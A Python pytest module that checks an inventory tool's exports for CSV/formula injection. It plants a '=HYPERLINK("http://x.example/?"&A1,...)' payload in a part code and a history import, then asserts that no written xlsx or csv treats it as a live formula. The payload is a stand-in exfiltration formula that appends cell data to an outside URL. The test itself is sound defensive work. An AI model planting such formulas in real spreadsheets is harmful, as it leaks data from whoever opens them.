"""Every file a command writes keeps data out of formulas.

A part coded like a spreadsheet formula (``=HYPERLINK(...)``, the classic CSV/formula
injection payload described by OWASP's "CSV Injection" page) is put into a shop database,
then every command that writes files is run and every produced workbook and csv is scanned:

- xlsx: no formula element (``<f>`` in the sheet XML, ECMA-376 Part 1, 18.3.1.40) may
  contain the payload; the payload must appear as text where the code is shown;
- csv: no field may start with a formula character unguarded (OWASP's advice: prefix
  ``'``).

The database is changed with SQL after loading (as an older database could hold such a
code), so the check does not depend on the import's own code validation.
"""

from __future__ import annotations

import csv
import re
import zipfile
from pathlib import Path

import pytest
from sqlalchemy import text

from inventory.core.db import dispose_all, make_engine
from tests.conftest import write_catalog
from tests.test_forecast_app import build

EVIL = '=HYPERLINK("http://x.example/?"&A1,"x")'
TODAY = "2026-07-03"
_F = re.compile(r"<f(?:\s[^>]*)?>(.*?)</f>", re.S)


@pytest.fixture(scope="module")
def outputs(tmp_path_factory):
    """Run every file-writing command once on a shop holding the formula-like code."""
    tmp = tmp_path_factory.mktemp("guard")
    mp = pytest.MonkeyPatch()
    mp.chdir(tmp)
    db = str(tmp / "shop.db")
    out = tmp / "out"
    out.mkdir()

    def ok(*args):
        code, o, err = _cli("--db", db, *args)
        assert code == 0, (args, err)
        return o

    ok("init")
    ok("catalog", "load", str(write_catalog(tmp / "cat")))
    engine = make_engine(f"sqlite:///{db}")
    build(engine, 30)
    with engine.begin() as conn:
        conn.execute(text("UPDATE part SET code = :c WHERE code = 'WP-32'"), {"c": EVIL})
    dispose_all()
    ok("forecast", "--by", "part", "--today", TODAY, "--xlsx", str(out / "forecast.xlsx"),
       "--charts", str(out / "charts"))
    ok("plan", "--date", TODAY, "--xlsx", str(out / "plan.xlsx"), "--fill-rate", "0.99")
    ok("report", "month", "2026-06", "--today", TODAY, "--xlsx", str(out / "month.xlsx"),
       "--html", str(out / "month.html"))
    for table in ("parts", "stock", "lots", "movements", "jobs"):
        ok("export", table, "--xlsx", str(out / f"export-{table}.xlsx"))
        ok("export", table, "--csv", str(out / f"export-{table}.csv"))
    for kind in ("history", "counts", "receipts", "catalog"):
        ok("template", kind, "--xlsx", str(out / f"template-{kind}.xlsx"))
    ok("compat", "--xlsx", str(out / "compat.xlsx"))
    ok("catalog", "export", str(out / "catalog.xlsx"))
    ok("catalog", "export", str(out / "catalog_csv"))
    # a history file whose fork is typed as the payload: the review workbook lists the text
    hist = tmp / "history.csv"
    with hist.open("w", newline="", encoding="utf-8") as fh:
        csv.writer(fh).writerows([
            ["job", "date", "fork", "service", "hours", "fork_ref", "item", "kit", "qty"],
            ["J-9001", "2026-06-14", EVIL, "lower_leg", "55", "F-0001", "OR-214", "", "1"]])
    code, _, err = _cli("--db", db, "import", "history", str(hist),
                        "--review", str(out / "review.xlsx"))
    assert (out / "review.xlsx").exists(), err
    yield out
    mp.undo()
    dispose_all()


def _cli(*args: str) -> tuple[int, str, str]:
    """``inventory ARGS`` through the console entry point, output captured (a module-scoped
    fixture cannot use capsys)."""
    import io
    import sys
    from contextlib import redirect_stderr, redirect_stdout

    from inventory.cli.main import run

    out, err = io.StringIO(), io.StringIO()
    argv = sys.argv
    sys.argv = ["inventory", *args]
    code = 0
    try:
        with redirect_stdout(out), redirect_stderr(err):
            run()
    except SystemExit as exc:
        code = exc.code or 0
    finally:
        sys.argv = argv
    return code, out.getvalue(), err.getvalue()


def _xlsx_formulas_and_text(path: Path) -> tuple[list[str], str]:
    formulas, texts = [], []
    with zipfile.ZipFile(path) as z:
        for name in z.namelist():
            if name.startswith("xl/") and name.endswith(".xml"):
                xml = z.read(name).decode("utf-8")
                formulas += _F.findall(xml)
                texts.append(xml)
    return formulas, "\n".join(texts)


def test_every_file_was_written(outputs):
    names = {p.name for p in outputs.rglob("*") if p.is_file()}
    for want in ("forecast.xlsx", "plan.xlsx", "month.xlsx", "compat.xlsx", "catalog.xlsx",
                 "review.xlsx", "export-parts.xlsx", "export-stock.csv",
                 "template-catalog.xlsx"):
        assert want in names, sorted(names)


def test_no_workbook_has_a_formula_from_data(outputs):
    books = sorted(outputs.rglob("*.xlsx"))
    assert len(books) >= 15
    shown = []
    for book in books:
        formulas, xml = _xlsx_formulas_and_text(book)
        bad = [f for f in formulas if "x.example" in f or "HYPERLINK" in f.upper()]
        assert bad == [], f"{book.name}: formula from data {bad}"
        # the payload as text (shared strings or inline), the ampersand XML-escaped
        if "HYPERLINK(" in xml and "http://x.example/?" in xml and "&amp;A1" in xml:
            shown.append(book.name)
    # the code must actually have reached the files that show part codes, or this test
    # proves nothing (the tiny catalog has no seats, so the compat matrix has no rows)
    for name in ("forecast.xlsx", "plan.xlsx", "month.xlsx", "export-parts.xlsx",
                 "catalog.xlsx", "review.xlsx"):
        assert name in shown, (name, shown)


def test_forecast_chart_data_holds_the_code_as_text(outputs):
    from openpyxl import load_workbook

    wb = load_workbook(outputs / "forecast.xlsx")
    cells = [c for row in wb["Chart data"].iter_rows() for c in row if c.value == EVIL]
    assert cells, "the code is missing from Chart data"
    assert all(c.data_type == "s" for c in cells)


def test_no_csv_field_starts_like_a_formula(outputs):
    files = sorted(outputs.rglob("*.csv"))
    assert len(files) >= 6
    seen = 0
    for f in files:
        with f.open(newline="", encoding="utf-8") as fh:
            for row in csv.reader(fh):
                for field in row:
                    assert not field.startswith(("=", "+", "@", "\t", "\r")), (f.name, field)
                    seen += EVIL in field
    assert seen >= 2  # parts export and catalog export carry it, guarded
